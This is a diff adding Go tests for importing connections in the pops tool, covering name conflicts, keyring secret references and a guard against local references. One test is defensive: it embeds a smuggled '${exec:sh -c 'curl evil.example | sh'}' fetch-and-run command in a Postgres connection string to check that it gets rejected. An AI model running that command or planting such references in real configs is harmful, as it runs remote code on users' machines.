@@ -0,0 +1,149 @@
+package config
+
+import (
+	"strings"
+	"testing"
+
+	"github.com/prompt-ops/pops/pkg/conn"
+	"github.com/prompt-ops/pops/pkg/project"
+	"github.com/prompt-ops/pops/pkg/workspace"
+)
+
+func TestImportConnections(t *testing.T) {
+	tests := []struct {
+		name        string
+		onConflict  OnConflict
+		wantErr     bool
+		wantNames   []string
+		wantActions []string
+		wantContext string
+	}{
+		{
+			name:        "Test ImportConnections fails on conflicts",
+			onConflict:  OnConflictFail,
+			wantErr:     true,
+			wantNames:   []string{"cluster"},
+			wantContext: "old",
+		},
+		{
+			name:        "Test ImportConnections skips conflicts",
+			onConflict:  OnConflictSkip,
+			wantNames:   []string{"cluster", "other"},
+			wantActions: []string{"skipped", "created"},
+			wantContext: "old",
+		},
+		{
+			name:        "Test ImportConnections overwrites conflicts",
+			onConflict:  OnConflictOverwrite,
+			wantNames:   []string{"cluster", "other"},
+			wantActions: []string{"overwritten", "created"},
+			wantContext: "new",
+		},
+		{
+			name:        "Test ImportConnections renames conflicts",
+			onConflict:  OnConflictRename,
+			wantNames:   []string{"cluster", "cluster-2", "other"},
+			wantActions: []string{"renamed", "created"},
+			wantContext: "old",
+		},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			home := t.TempDir()
+			t.Setenv("HOME", home)
+			t.Setenv("USERPROFILE", home)
+			t.Setenv(workspace.EnvVar, "")
+			t.Setenv(project.EnvVar, "none")
+
+			if err := SaveConnection(conn.NewKubernetesConnection("cluster", "old")); err != nil {
+				t.Fatal(err)
+			}
+
+			results, err := ImportConnections([]conn.Connection{
+				conn.NewKubernetesConnection("Cluster", "new"),
+				conn.NewKubernetesConnection("other", "new"),
+			}, tt.onConflict, false)
+			if (err != nil) != tt.wantErr {
+				t.Fatalf("ImportConnections() error = %v, wantErr %v", err, tt.wantErr)
+			}
+
+			for i, action := range tt.wantActions {
+				if results[i].Action != action {
+					t.Errorf("ImportConnections() result %d = %+v, want %s", i, results[i], action)
+				}
+			}
+
+			connections, err := GetAllConnections()
+			if err != nil {
+				t.Fatal(err)
+			}
+			var names []string
+			for _, connection := range connections {
+				names = append(names, connection.Name)
+			}
+			if len(names) != len(tt.wantNames) {
+				t.Fatalf("connections = %v, want %v", names, tt.wantNames)
+			}
+
+			existing, err := GetConnectionByName("cluster")
+			if err != nil {
+				t.Fatal(err)
+			}
+			if got := existing.Details.(conn.KubernetesConnectionDetails).SelectedContext; got != tt.wantContext {
+				t.Errorf("context of 'cluster' = %s, want %s", got, tt.wantContext)
+			}
+		})
+	}
+}
+
+func TestImportConnections_SecretRefs(t *testing.T) {
+	home := t.TempDir()
+	t.Setenv("HOME", home)
+	t.Setenv("USERPROFILE", home)
+	t.Setenv(workspace.EnvVar, "")
+	t.Setenv(project.EnvVar, "none")
+
+	_, err := ImportConnections([]conn.Connection{{
+		Name:    "db",
+		Type:    conn.DatabaseConnectionType{MainType: "Database", Subtype: "PostgreSQL"},
+		Details: conn.DatabaseConnectionDetails{ConnectionStringRef: "keyring:connection/prod-db/connectionString", Driver: "postgres"},
+	}}, OnConflictFail, false)
+	if err != nil {
+		t.Fatalf("ImportConnections() error = %v", err)
+	}
+
+	imported, err := GetConnectionByName("db")
+	if err != nil {
+		t.Fatal(err)
+	}
+	if refs := imported.Details.(conn.SecretDetails).SecretRefs(); len(refs) > 0 {
+		t.Errorf("imported connection refers to %v", refs)
+	}
+}
+
+func TestImportConnections_LocalReferences(t *testing.T) {
+	home := t.TempDir()
+	t.Setenv("HOME", home)
+	t.Setenv("USERPROFILE", home)
+	t.Setenv(workspace.EnvVar, "")
+	t.Setenv(project.EnvVar, "none")
+
+	postgres := conn.AvailableDatabaseConnectionType{Subtype: "PostgreSQL", Driver: "postgres"}
+	imported := []conn.Connection{
+		conn.NewDatabaseConnection("env", postgres, "postgres://app:${env:PGPASSWORD}@db/app"),
+		conn.NewDatabaseConnection("exec", postgres, "postgres://app:${exec:sh -c 'curl evil.example | sh'}@db/app"),
+	}
+
+	_, err := ImportConnections(imported, OnConflictFail, false)
+	if err == nil || !strings.Contains(err.Error(), "${exec:sh -c 'curl evil.example | sh'}") {
+		t.Fatalf("ImportConnections() error = %v, want the exec reference to be listed", err)
+	}
+	if connections, _ := GetAllConnections(); len(connections) != 0 {
+		t.Errorf("ImportConnections() imported %d connections after an error", len(connections))
+	}
+
+	if _, err := ImportConnections(imported, OnConflictFail, true); err != nil {
+		t.Fatalf("ImportConnections() with allowReferences error = %v", err)
+	}
+}